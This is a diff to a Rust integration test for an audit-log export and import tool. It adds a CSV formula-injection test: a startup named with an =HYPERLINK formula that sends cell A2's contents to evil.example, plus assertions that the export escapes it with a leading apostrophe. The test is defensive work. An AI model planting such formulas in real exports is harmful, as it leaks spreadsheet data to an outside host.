@@ -23,6 +23,9 @@ fn cli(args: &[&str]) -> std::process::Output {
         .unwrap()
 }
 
+/// A startup name that opens a link when a spreadsheet evaluates it.
+const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?\"&A2,\"open\")";
+
 fn export(url: &str, dir: &Path) {
     let out = cli(&[
         "audit",
@@ -90,12 +93,14 @@ async fn an_exported_log_imports_into_the_other_store_unchanged(backend: Backend
         )
         .await;
     assert_eq!(r.status(), StatusCode::CREATED);
+    // A name a spreadsheet would run as a formula.
+    app.apply(FORMULA, None).await;
     app.settle().await;
     let dir = std::env::temp_dir().join(format!("incubator-export-{}", uuid::Uuid::now_v7()));
     let (first, second) = (dir.join("first"), dir.join("second"));
     export(&app.db.url, &first);
     let source = lines(&first);
-    assert_eq!(source.len(), 8);
+    assert_eq!(source.len(), 9);
     assert!(source.iter().all(|e| e["hash"].is_string()), "all sealed");
 
     // Into an empty store of the other kind.
@@ -139,6 +144,22 @@ async fn an_exported_log_imports_into_the_other_store_unchanged(backend: Backend
             .unwrap()
             .contains("Tempo")
     );
+    // The formula is text in the export: a leading apostrophe, every cell of it.
+    for name in ["rm_funding_startups.csv", "rm_space_names.csv"] {
+        let csv = std::fs::read_to_string(first.join(name)).unwrap();
+        if csv.contains("HYPERLINK") {
+            assert!(csv.contains("\"'=HYPERLINK("), "{name}: {csv}");
+            assert!(
+                !csv.contains(",=HYPERLINK") && !csv.contains("\"=HYPERLINK"),
+                "{name}"
+            );
+        }
+    }
+    assert!(
+        std::fs::read_to_string(first.join("rm_funding_startups.csv"))
+            .unwrap()
+            .contains("HYPERLINK")
+    );
     // Check and verify are clean on the copy.
     let read = ReadDb::connect(&copy.db.url, 2).await.unwrap();
     for model in Model::ALL {
@@ -148,14 +169,14 @@ async fn an_exported_log_imports_into_the_other_store_unchanged(backend: Backend
     let verified = audit::verify(&read, audit::Range::ALL, &|_| {})
         .await
         .unwrap();
-    assert!(verified.intact && verified.sealed == 8, "{verified:?}");
+    assert!(verified.intact && verified.sealed == 9, "{verified:?}");
     read.pool.close().await;
     // The copy takes new commands after the imported events.
     let next = copy.apply("After", None).await;
     let history = copy
         .get_json(&format!("/api/v1/startups/{next}/events"))
         .await;
-    assert!(history["items"][0]["position"].as_i64().unwrap() > 8);
+    assert!(history["items"][0]["position"].as_i64().unwrap() > 9);
     // A store that holds events refuses an import.
     let out = cli(&[
         "audit",
